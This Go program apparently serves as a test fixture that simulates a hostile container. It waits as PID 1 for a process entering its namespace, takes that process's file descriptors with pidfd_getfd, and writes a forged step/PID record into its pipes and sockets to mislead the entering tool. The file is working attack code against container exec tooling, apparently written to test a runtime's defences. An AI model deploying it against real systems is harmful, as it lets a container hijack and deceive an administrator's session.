// Forgedreport is what a hostile container with CAP_SYS_PTRACE does while an administrator enters it: it waits in its
// pid namespace for a new process, takes that one's pipes and sockets by pidfd_getfd(2), and tells through them, in
// the form in which the entering process tells it, that another process is the one that was started.
//
//	forgedreport STEP PID...     STEP is the number under which a PID was told; PID is the victim's
//
// It runs as process 1 of its pid namespace, with a /proc of that. It prints a line when it is ready, one with what it
// could write to once it was able to, and lives until its input ends.
package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	step, err := strconv.ParseUint(os.Args[1], 10, 64)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	victim, err := strconv.ParseUint(os.Args[2], 10, 64)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	record := binary.NativeEndian.AppendUint64(nil, step)
	record = binary.NativeEndian.AppendUint64(record, victim)
	go func() {
		io.Copy(io.Discard, os.Stdin)
		os.Exit(0)
	}()
	fmt.Println("ready")
	for {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
				if wrote := forge(pid, record); wrote != "" {
					fmt.Println(wrote)
					syscall.Pause()
				}
			}
		}
	}
}

// forge writes the record to what the process has open above the standard streams, and says to what.
func forge(pid int, record []byte) string {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return ""
	}
	defer unix.Close(pidfd)
	var wrote []string
	for fd := 3; fd < 32; fd++ {
		got, err := unix.PidfdGetfd(pidfd, fd, 0)
		if err != nil {
			continue
		}
		link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", got))
		if flags, err := unix.FcntlInt(uintptr(got), unix.F_GETFL, 0); err == nil && flags&unix.O_ACCMODE != unix.O_RDONLY {
			if n, err := unix.Write(got, record); err == nil && n == len(record) {
				wrote = append(wrote, link)
			}
		}
		unix.Close(got)
	}
	return strings.Join(wrote, " ")
}
